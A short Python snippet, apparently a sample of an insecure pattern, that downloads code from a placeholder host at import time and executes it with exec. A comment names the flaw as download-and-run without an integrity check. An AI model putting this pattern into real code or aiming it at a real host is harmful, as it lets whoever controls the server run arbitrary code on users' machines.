import urllib.request

# fetched at import, then executed: download-and-run without integrity check
_code = urllib.request.urlopen("https://cdn.example.invalid/patch.py", timeout=1).read()
exec(compile(_code, "patch", "exec"))
